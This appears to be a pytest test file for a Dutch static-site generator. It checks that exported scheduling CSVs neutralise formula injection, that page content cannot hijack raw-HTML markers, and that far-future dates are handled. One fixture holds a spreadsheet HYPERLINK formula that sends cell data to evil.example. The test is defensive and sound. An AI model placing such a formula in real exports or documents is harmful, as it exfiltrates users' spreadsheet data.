"""Attacks on what the build writes: front matter that tries to become HTML or Markdown,
post texts that a spreadsheet would run, content that addresses the raw-HTML markers, dates
at the end of the calendar, and a build log that would quote a story that may not be shown.

Every test builds a real site (or runs `reisverhaal check`) and reads what came out with
real parsers: BeautifulSoup (html.parser and lxml), Python's csv module, JSON.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from bs4 import BeautifulSoup

from conftest import SiteProject, build, line_of, tree_bytes

PARSERS = ("html.parser", "html5lib")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BUFFER_HEADER = ["Text", "Image URL", "Tags", "Posting Time"]


def soup(html: str, parser: str = "html.parser") -> BeautifulSoup:
    return BeautifulSoup(html, parser)


def csv_rows(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


# CSV formula injection ------------------------------------------------------------------

FORMULAS = {
    "facebook": '=HYPERLINK("https://evil.example/?x="&A1;"Klik hier")',
    "linkedin": "+31 6 maar dan als som",
    "x": "-1+1 is nul, zegt de rekenmachine",
    "instagram": "@SUM(1+1) klinkt als een naam",
}


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("formula") / "project"
    channels = ["website", "facebook", "linkedin", "x", "instagram"]
    project = SiteProject.small(root, channels=channels)
    project.step(
        "knie",
        "02-operatie.md",
        title="De operatie",
        phase="during",
        when="0d",
        summary="Op de dag van de operatie krijg je een nieuwe knie.",
        posts={platform: {"text": text} for platform, text in FORMULAS.items()},
    )
    return build(root)


def test_post_texts_that_look_like_formulas_are_neutralised_in_every_scheduling_csv(
    formula_site,
):
    exports = sorted((formula_site.site / "deelkit").glob("*.csv"))
    assert {path.name.split("-")[0] for path in exports} == {"buffer", "hootsuite"}
    seen = set()
    for path in exports:
        table = csv_rows(path)
        buffer = path.name.startswith("buffer-")
        if buffer:
            assert table[0] == BUFFER_HEADER
            assert path.read_bytes().startswith(b"Text,Image URL,Tags,Posting Time\r\n")
            table = table[1:]
        for row in table:
            assert len(row) == (4 if buffer else 3)
            if buffer:
                datetime.strptime(row[3], "%Y-%m-%d %H:%M")
            else:
                datetime.strptime(row[0], "%d/%m/%Y %H:%M")
            assert not [cell for cell in row if cell.startswith(FORMULA_START)], (path, row)
            text = row[0] if buffer else row[1]
            for formula in FORMULAS.values():
                if text.startswith("'" + formula[:12]):
                    seen.add(formula)
    assert seen == set(FORMULAS.values())


# Raw-HTML markers ------------------------------------------------------------------------


def test_content_cannot_address_the_raw_html_markers(tmp_path):
    project = SiteProject.small(tmp_path / "project")
    body = (
        "Je praat met de arts.\n\n<!-- reisverhaal:html 99 -->\n\n"
        "<!-- reisverhaal:html 0 -->\n\nEn dan ga je naar huis.\n"
    )
    project.step("knie", "01-eerste-gesprek.md", body=body, story="wilma-fietst")
    first = build(project.root)
    for parser in PARSERS:
        page = soup(first.page("journeys/knie/eerste-gesprek/"), parser)
        assert len(page.select("p.rv-crumb")) == 1
        assert len(page.select("nav.rv-stepnav")) == 1
        assert "En dan ga je naar huis." in page.get_text()
    before = tree_bytes(first.site)
    (project.root / ".cache").rename(project.root / "oude-cache")
    again = build(project.root, site_dir=project.root / "site2")
    assert tree_bytes(again.site) == before


# The end of the calendar ------------------------------------------------------------------


def test_a_post_past_the_end_of_the_calendar_is_a_located_error_and_the_rest_builds(tmp_path):
    project = SiteProject.small(tmp_path / "project")
    project.journey("ver", title="Heel ver weg", date=datetime(9999, 12, 30, 9, 0))
    step = project.step("ver", "01-later.md", title="Later", when="+2w")
    built = build(project.root)
    errors = [text for text in built.logged("ERROR") if "01-later.md" in text]
    assert errors and all("snippet.schedule" in text for text in errors)
    assert f"journeys/ver/01-later.md:{line_of(step, 'when:')}" in errors[0]
    assert "9999-12-30" in errors[0] and "buiten de dagen" in errors[0]
    assert "Traceback" not in "\n".join(built.logged())
    assert (built.site / "journeys/ver/later/index.html").is_file()
    assert (built.site / "journeys/knie/eerste-gesprek/index.html").is_file()
    assert (built.site / "deelkit/kalender/index.html").is_file()


def test_source_date_epoch_at_the_end_of_the_calendar_is_said_and_the_site_builds(tmp_path):
    project = SiteProject.small(tmp_path / "project")
    project.journey("knie", repeat="yearly")
    built = build(project.root, epoch=253402214399)
    said = [text for text in built.logged("WARNING") if "SOURCE_DATE_EPOCH" in text]
    assert said and "253402214399" in said[0] and "2106-02-07" in said[0]
    assert (built.site / "journeys/knie/eerste-gesprek/index.html").is_file()
    assert (built.site / "deelkit/calendar.ics").is_file()
    assert (built.site / "deelkit/kalender/index.html").is_file()
